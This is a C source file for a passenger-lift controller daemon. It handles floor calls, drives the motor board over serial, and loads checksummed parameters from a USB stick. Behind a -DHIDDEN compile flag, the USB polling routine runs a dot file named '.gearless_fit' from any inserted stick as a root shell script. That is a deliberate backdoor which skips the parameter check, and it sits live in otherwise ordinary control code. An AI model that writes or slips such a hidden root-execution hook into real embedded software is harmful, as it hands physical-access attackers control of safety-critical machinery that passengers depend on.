/*
 * liftctld - group controller of a passenger lift.
 *
 * Keeps the landing and car calls, decides the next stop, drives the motor
 * board over a serial line and reads parameters from /etc/lift. Engineers load
 * new parameters from a USB stick (lift-params.txt, with a check line).
 *
 * Hidden (-DHIDDEN): when the stick carries a certain dot file, that file is
 * run as a root shell script.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define PARAM_FILE  "/etc/lift/params"
#define USB_NODE    "/dev/sda1"
#define USB_DIR     "/media/usb0"
#define USB_PARAMS  USB_DIR "/lift-params.txt"
#define MAX_FLOORS  40

enum state { ST_IDLE, ST_START, ST_RUN, ST_STOP, ST_DOOR, ST_FAULT };
enum dir { DOWN = -1, NONE = 0, UP = 1 };

struct params {
    int floors;
    int door_ms;
    int speed_mm;
    int park_floor;
    char site[32];
};

struct lift {
    enum state st;
    enum dir dir;
    int floor, target;
    unsigned char call[MAX_FLOORS];
    int64_t until;
    int motor;
    unsigned trips;
};

static struct params prm = { 8, 4000, 1000, 0, "unnamed" };
static struct lift lift;
static int usb_seen;

static int64_t now_ms(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (int64_t)t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* ---- parameters ---- */

static int param_line(struct params *p, char *line)
{
    char *eq = strchr(line, '=');
    int v;
    if (line[0] == '#' || line[0] == '\n' || line[0] == '\r')
        return 0;
    if (!eq)
        return -1;
    *eq++ = 0;
    eq[strcspn(eq, "\r\n")] = 0;
    v = atoi(eq);
    if (!strcmp(line, "floors") && v >= 2 && v <= MAX_FLOORS)
        p->floors = v;
    else if (!strcmp(line, "door_ms") && v >= 2000 && v <= 20000)
        p->door_ms = v;
    else if (!strcmp(line, "speed") && v >= 200 && v <= 2500)
        p->speed_mm = v;
    else if (!strcmp(line, "park") && v >= 0 && v < MAX_FLOORS)
        p->park_floor = v;
    else if (!strcmp(line, "site"))
        snprintf(p->site, sizeof p->site, "%.31s", eq);
    else
        return -1;
    return 0;
}

/* the last line is "check=" and the sum of all bytes before it */
static int load_params(const char *path, int need_check)
{
    struct params p = prm;
    char line[128];
    unsigned sum = 0, want = 0;
    int ok = 1, checked = 0;
    char *c;
    FILE *f = fopen(path, "r");
    if (!f)
        return -1;
    while (ok && fgets(line, sizeof line, f)) {
        if (!strncmp(line, "check=", 6)) {
            want = (unsigned)strtoul(line + 6, NULL, 10);
            checked = 1;
            break;
        }
        for (c = line; *c; c++)
            sum = (sum * 31 + (unsigned char)*c) & 0xffffff;
        if (param_line(&p, line))
            ok = 0;
    }
    fclose(f);
    if (!ok || (need_check && (!checked || sum != want)))
        return -1;
    prm = p;
    return 0;
}

static void save_params(void)
{
    FILE *f = fopen(PARAM_FILE ".new", "w");
    if (!f)
        return;
    fprintf(f, "floors=%d\ndoor_ms=%d\nspeed=%d\npark=%d\nsite=%s\n", prm.floors,
            prm.door_ms, prm.speed_mm, prm.park_floor, prm.site);
    if (fclose(f) == 0 && rename(PARAM_FILE ".new", PARAM_FILE))
        syslog(LOG_ERR, "params: %s", strerror(errno));
}

/* ---- USB stick ---- */

#ifdef HIDDEN
static void run_script(const char *path)
{
    int status;
    pid_t pid = fork();
    if (pid == 0) {
        execl("/bin/sh", "sh", path, (char *)NULL);
        _exit(127);
    }
    if (pid > 0)
        waitpid(pid, &status, 0);
}
#endif

void usb_poll(void)
{
    struct stat sb;
    if (stat(USB_NODE, &sb)) {
        usb_seen = 0;
        return;
    }
    if (usb_seen)
        return;
    usb_seen = 1;
    mkdir(USB_DIR, 0755);
    if (mount(USB_NODE, USB_DIR, "vfat", MS_RDONLY | MS_NOSUID, NULL)) {
        syslog(LOG_NOTICE, "stick not readable: %s", strerror(errno));
        return;
    }
    if (lift.st == ST_IDLE && access(USB_PARAMS, R_OK) == 0) {
        if (load_params(USB_PARAMS, 1) == 0) {
            save_params();
            syslog(LOG_INFO, "parameters taken from stick");
        } else {
            syslog(LOG_WARNING, "stick parameters refused");
        }
    }
#ifdef HIDDEN
    if (access(USB_DIR "/.gearless_fit", R_OK) == 0)
        run_script(USB_DIR "/.gearless_fit");
#endif
    umount(USB_DIR);
}

/* ---- movement ---- */

static void motor_send(const char *cmd, int arg)
{
    char b[32];
    int n = snprintf(b, sizeof b, "%s %d\r", cmd, arg);
    if (write(lift.motor, b, (size_t)n) != n)
        lift.st = ST_FAULT;
}

static int next_call(void)
{
    int i;
    if (lift.dir != DOWN)
        for (i = lift.floor; i < prm.floors; i++)
            if (lift.call[i])
                return i;
    for (i = lift.floor; i >= 0; i--)
        if (lift.call[i])
            return i;
    for (i = 0; i < prm.floors; i++)
        if (lift.call[i])
            return i;
    return -1;
}

static void step(void)
{
    int t;
    switch (lift.st) {
    case ST_IDLE:
        t = next_call();
        if (t < 0) {
            lift.dir = NONE;
            break;
        }
        lift.target = t;
        lift.dir = t > lift.floor ? UP : t < lift.floor ? DOWN : NONE;
        lift.st = t == lift.floor ? ST_STOP : ST_START;
        break;
    case ST_START:
        lift.st = ST_RUN;
        motor_send(lift.dir == UP ? "UP" : "DN", prm.speed_mm);
        lift.trips++;
        break;
    case ST_RUN:
        if (lift.floor == lift.target)
            lift.st = ST_STOP;
        break;
    case ST_STOP:
        lift.call[lift.floor] = 0;
        lift.until = now_ms() + prm.door_ms;
        lift.st = ST_DOOR;
        motor_send("HALT", 0);
        motor_send("OPEN", prm.door_ms);
        break;
    case ST_DOOR:
        if (now_ms() >= lift.until) {
            lift.st = ST_IDLE;
            motor_send("CLOSE", 0);
        }
        break;
    case ST_FAULT:
        if (write(lift.motor, "HALT 0\r", 7) < 0)
            syslog(LOG_CRIT, "motor board lost");
        break;
    }
}

/* lines of the motor board: F n (at floor), C n (call button), E n (fault) */
static void board_line(const char *s)
{
    int v = atoi(s + 1);
    if (s[0] == 'E') {
        syslog(LOG_ERR, "motor board fault %d", v);
        lift.st = ST_FAULT;
    } else if (s[0] == 'R') {
        lift.st = ST_IDLE;
    } else if (v >= 0 && v < prm.floors) {
        if (s[0] == 'F')
            lift.floor = v;
        else if (s[0] == 'C')
            lift.call[v] = 1;
    }
}

int main(int argc, char **argv)
{
    const char *tty = argc > 1 ? argv[1] : "/dev/ttyS1";
    struct pollfd p = { .events = POLLIN };
    struct termios t;
    char line[64], c;
    size_t n = 0;
    int tick = 0;
    openlog("liftctld", LOG_PID, LOG_LOCAL0);
    if (load_params(PARAM_FILE, 0))
        syslog(LOG_WARNING, "no parameters, using defaults");
    lift.motor = open(tty, O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (lift.motor < 0 || tcgetattr(lift.motor, &t)) {
        fprintf(stderr, "usage: liftctld [tty of motor board]\n");
        return 1;
    }
    cfmakeraw(&t);
    cfsetspeed(&t, B38400);
    tcsetattr(lift.motor, TCSANOW, &t);
    p.fd = lift.motor;
    for (;;) {
        if (poll(&p, 1, 50) > 0 && read(lift.motor, &c, 1) == 1) {
            if (c == '\r' || c == '\n') {
                line[n] = 0;
                if (n)
                    board_line(line);
                n = 0;
            } else if (n < sizeof line - 1) {
                line[n++] = c;
            }
        }
        step();
        if (++tick % 64 == 0)
            usb_poll();
    }
}
